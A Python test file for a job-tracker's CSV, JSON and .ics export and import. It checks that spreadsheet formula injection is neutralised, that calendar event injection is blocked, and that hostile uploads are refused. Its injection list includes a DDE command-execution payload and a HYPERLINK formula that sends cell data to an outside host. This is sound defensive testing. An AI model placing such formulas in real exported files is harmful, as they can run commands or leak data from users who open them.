"""Exports (CSV, JSON, .ics) and validated imports: formula injection, round trips, hostile uploads."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from followup import tracker
from followup.log import exports, imports

D = dt.date
INJECTION = ['=HYPERLINK("http://x/?"&A1,"Click")', "+1 (555) 010-0000", "-2+3", "@SUM(1)", "\t=1",
             "\r=1", "\n=1", "a,=1", 'Zoë, "quoted"', "'=already quoted", "''+x", "'", "plain",
             # a trigger after a separator: a cell when the file is opened with ; or TAB as separator
             "Acme;=1+1", "x;@SUM(A1)", "y\t=cmd|' /C calc'!A0", "z;-2", "w,+3", "v;'=quoted", "u;''-x",
             "t;;=1", "s\t\t=1", "r\r\n=1", "q;", "p,", 'o";=1', "Zoë; 'plain'", "n; =1"]


def app(uid="a1", company="Acme", events=None, **kw):
    base = {"uid": uid, "company": company, "role": "Dev", "contact": "", "via_agency": False,
            "status": "active", "said": "", "industry": "general", "country": "US", "subdivision": ""}
    base.update(kw)
    base["events"] = events if events is not None else [
        {"uid": f"{uid}-e1", "kind": "interview", "date": D(2026, 3, 10), "done": True, "note": "ok"}]
    return base


def csv_cells(blob: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(blob.decode("utf-8-sig"), newline="")))


# --- formula injection -----------------------------------------------------------------------------
def test_csv_neutralises_every_trigger_and_restores_it():
    log = [app(uid=f"a{i}", company=t, role=t, contact=t, said=t,
               events=[{"uid": f"e{i}", "kind": "other", "date": D(2026, 1, 2), "done": False, "note": t}])
           for i, t in enumerate(INJECTION)]
    blob = exports.to_csv(log)
    for row in csv_cells(blob)[1:]:
        for cell in row:
            assert not cell.startswith(exports.TRIGGERS), repr(cell)
    parsed = imports.parse_upload("x.csv", blob)
    assert parsed.errors == []
    assert parsed.log == log


def cells_split_by(text: str, separator: str) -> list[str]:
    """Every cell a spreadsheet could see when it splits the file's lines on ``separator`` alone,
    without regard to quotes (the CSV's own quote that opens a cell taken off)."""
    return [c[1:] if c.startswith('"') else c for line in text.splitlines() for c in line.split(separator)]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_starts_with_a_trigger_whatever_the_separator(separator):
    log = [app(uid=f"a{i}", company=t, role=t, contact=t, said=t,
               events=[{"uid": f"e{i}", "kind": "other", "date": D(2026, 1, 2), "done": False, "note": t}])
           for i, t in enumerate(INJECTION)]
    text = exports.to_csv(log).decode("utf-8-sig")
    cells = cells_split_by(text, separator)
    assert len(cells) > 60
    bad = [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    assert bad == []
    # the checker can fail: the same payloads, neutralised only at the start of a cell, trip it
    naive = "\n".join(",".join("'" + t if t.startswith(exports.TRIGGERS) else t for t in INJECTION)
                       for _ in range(2))
    assert [c for c in cells_split_by(naive, separator) if c.startswith(("=", "+", "-", "@"))]
    assert imports.parse_upload("x.csv", exports.to_csv(log)).log == log


@pytest.mark.parametrize("value", INJECTION)
def test_neutralise_restore_inverse(value):
    assert exports.restore(exports.neutralise(value)) == value
    out = exports.neutralise(value)
    assert not out.startswith(exports.TRIGGERS)
    for sep in exports.SEPARATORS:
        assert not any(part.startswith(("=", "+", "-", "@")) for part in out.split(sep)), (sep, out)


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("'=+-@,;\t\r\n a\"")), max_size=30))
def test_neutralise_restore_inverse_on_dense_strings(value):
    out = exports.neutralise(value)
    assert exports.restore(out) == value
    for sep in exports.SEPARATORS:
        assert not any(part.startswith(exports.TRIGGERS) for part in out.split(sep) if part), (sep, out)


def test_hand_written_quote_is_kept():
    assert exports.restore("'hello") == "'hello"
    assert exports.restore("'=1") == "=1"


# --- round trips (property tests) --------------------------------------------------------------------
text = st.text(alphabet=st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=40)
company = text.filter(lambda s: s.strip() != "")
event_st = st.fixed_dictionaries({
    "kind": st.sampled_from(list(tracker.KINDS)), "date": st.dates(D(1990, 1, 1), D(2100, 12, 31)),
    "done": st.booleans(), "note": text})
app_st = st.fixed_dictionaries({
    "company": company, "role": text, "contact": text, "via_agency": st.booleans(),
    "status": st.sampled_from(list(tracker.STATUSES)), "said": text,
    "industry": st.sampled_from(["general", "retail"]), "events": st.lists(event_st, max_size=4)}).flatmap(
    # a country and one of its regions (or none): what the planner knows, as imports require
    lambda a: st.sampled_from([("US", ""), ("US", "CA"), ("GB", "ENG"), ("GB", ""), ("DE", "BY")]).map(
        lambda cr: {**a, "country": cr[0], "subdivision": cr[1]}))


def with_uids(apps):
    out = []
    for i, a in enumerate(apps):
        out.append({"uid": f"app-{i}", **{k: v for k, v in a.items() if k != "events"},
                    "events": [{"uid": f"ev-{i}-{j}", **e} for j, e in enumerate(a["events"])]})
    return out


@pytest.mark.parametrize("name, export", [("t.csv", exports.to_csv), ("t.json", exports.to_json)])
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(apps=st.lists(app_st, min_size=1, max_size=4))
def test_round_trip_is_lossless(name, export, apps):
    log = with_uids(apps)
    parsed = imports.parse_upload(name, export(log))
    assert parsed.errors == []
    assert parsed.log == log


# --- .ics ------------------------------------------------------------------------------------------
def test_ics_planned_steps_rfc5545():
    import ics as ics_lib
    from icalendar import Calendar

    evil = "Line 1\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected, with; commas\\ " + "long " * 30
    log = [app(events=[
        {"uid": "p1", "kind": "call", "date": D(2026, 3, 17), "done": False, "note": evil},
        {"uid": "d1", "kind": "reply", "date": D(2026, 3, 10), "done": True, "note": "done one"}]),
        app(uid="a2", company="Closed", status="rejected", events=[
            {"uid": "p2", "kind": "call", "date": D(2026, 3, 18), "done": False, "note": ""}])]
    now = dt.datetime(2026, 3, 11, 9, 0, tzinfo=dt.timezone.utc)
    blob = exports.to_ics(log, now=now)
    assert blob == exports.to_ics(log, now=now)  # stable
    text = blob.decode("utf-8")
    assert "\r\n" in text and "\n" not in text.replace("\r\n", "")
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    cal = Calendar.from_ical(blob)
    evs = list(cal.walk("VEVENT"))
    # no interview logged, so no plan: the planned call only; nothing of the rejected application
    assert len(evs) == 1  # and no injected event
    ev = evs[0]
    assert str(ev["UID"]) == "p1@followup-coach" and "DTSTAMP" in ev
    assert str(ev["SUMMARY"]) == "Call: Acme (Dev)"
    assert ev.decoded("DTSTART") == D(2026, 3, 17) and ev.decoded("DTEND") == D(2026, 3, 18)
    assert str(ev["DESCRIPTION"]) == evil.replace("\r\n", "\n")  # iCalendar text has no CR
    assert len(ev.walk("VALARM")) == 1  # the 17th is after today (the 11th)
    parsed = ics_lib.Calendar(text)
    assert [e.uid for e in parsed.events] == ["p1@followup-coach"]


# --- hostile uploads -------------------------------------------------------------------------------
HEADER = ",".join(exports.CSV_COLUMNS)


def row(company="Acme", kind="interview", date="2026-03-10", done="done", note="", app_id="", ev_id=""):
    return f"{app_id},{company},Dev,,no,active,,general,US,,{ev_id},{kind},{date},{done},{note}"


def good_csv(n=2) -> str:
    return "\n".join([HEADER] + [row(note=f"n{i}") for i in range(n)]) + "\n"


HOSTILE = {
    "wrong columns": (b"name,when\nAcme,2026-01-01\n", "Missing column"),
    "unknown column": ((HEADER + ",extra\n" + row() + ",x\n").encode(), "Unknown column"),
    "utf16 no bom": (good_csv().encode("utf-16-le"), "NUL"),
    "cp1252": (good_csv().replace("Acme", "Café").encode("cp1252"), "not UTF-8"),
    "empty": (b"", "empty"),
    "whitespace only": (b"  \n\n", "empty"),
    "header only": ((HEADER + "\n").encode(), "header but no rows"),
    "nul bytes": (good_csv().encode().replace(b"Acme", b"Ac\x00me"), "NUL"),
    "too many rows": ((HEADER + "\n" + "\n".join(row(note=str(i)) for i in range(10_001))).encode(), "10,000"),
    "too big": (b"a" * (imports.MAX_BYTES + 1), "limit is 2 MB"),
    "deep json": (b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
    "json not a backup": (b'{"hello": 1}', "not a timeline backup"),
    "json wrong types": (json.dumps({"applications": [{"company": 5, "events": [
        {"kind": "call", "date": "2026-01-01", "done": "yes"}]}]}).encode(), "must be text"),
    "json bad done": (json.dumps({"applications": [{"company": "A", "events": [
        {"kind": "call", "date": "2026-01-01", "done": "yes"}]}]}).encode(), "done must be true"),
    "json events not list": (json.dumps({"applications": [{"company": "A", "events": {}}]}).encode(),
                             "events must be a list"),
    "invalid json": (b'{"applications": [', "not valid JSON"),
    "feb 29 2025": ((HEADER + "\n" + row(date="2025-02-29") + "\n").encode(), "does not exist"),
    "31/02/2025": ((HEADER + "\n" + row(date="31/02/2025") + "\n").encode(), "YYYY-MM-DD"),
    "ambiguous": ((HEADER + "\n" + row(date="03/04/2025") + "\n").encode(), "ambiguous"),
    "bad kind": ((HEADER + "\n" + row(kind="party") + "\n").encode(), "kind must be one of"),
    "bad done": ((HEADER + "\n" + row(done="maybe") + "\n").encode(), "done must be"),
    "duplicates": ((HEADER + "\n" + row() + "\n" + row() + "\n").encode(), "duplicate of Row 2"),
    "ragged row": ((HEADER + "\n" + row() + ",extra\n").encode(), "cells"),
    "missing company": ((HEADER + "\n" + row(company="") + "\n").encode(), "company is required"),
    "conflicting app": ((HEADER + "\n" + row(app_id="x1") + "\n"
                         + row(app_id="x1", company="Other", note="2") + "\n").encode(), "differ"),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_upload_is_refused_with_a_message(name):
    data, message = HOSTILE[name]
    result = imports.parse_upload("upload.json" if "json" in name else "upload.csv", data)
    assert result.log == [] and not result.ok
    assert any(message.lower() in e.lower() for e in result.errors), result.errors


def test_errors_are_listed_by_row():
    data = "\n".join([HEADER, row(), row(date="2025-02-30", note="b"), row(kind="x", note="c")]) + "\n"
    result = imports.parse_upload("x.csv", data.encode())
    assert [e.split(":")[0] for e in result.errors] == ["Row 3", "Row 4"]


@pytest.mark.parametrize("encode", [
    lambda s: s.encode("utf-8"), lambda s: s.encode("utf-8-sig"), lambda s: s.encode("utf-16"),
    lambda s: s.replace(",", ";").encode("utf-8"), lambda s: s.replace(",", "\t").encode("utf-8"),
    lambda s: s.replace("\n", "\r\n").encode("utf-8")])
def test_accepted_encodings_and_separators(encode):
    result = imports.parse_upload("x.csv", encode(good_csv(3).replace("Acme", "Zoë")))
    assert result.errors == [] and result.ok
    assert result.log[0]["company"] == "Zoë" and len(result.log[0]["events"]) == 3


def test_exactly_the_row_limit_is_accepted():
    data = (HEADER + "\n" + "\n".join(row(note=str(i)) for i in range(10_000))).encode()
    result = imports.parse_upload("x.csv", data)
    assert result.errors == [] and sum(len(a["events"]) for a in result.log) == 10_000


def test_hand_written_csv_without_ids_gets_stable_ids():
    data = good_csv(2).encode()
    a, b = imports.parse_upload("x.csv", data), imports.parse_upload("x.csv", data)
    assert a.log == b.log and len(a.log) == 1
    assert a.log[0]["uid"] and all(e["uid"] for e in a.log[0]["events"])


def test_application_without_events_round_trips():
    log = [app(events=[])]
    assert imports.parse_upload("x.csv", exports.to_csv(log)).log == log
    assert imports.parse_upload("x.json", exports.to_json(log)).log == log
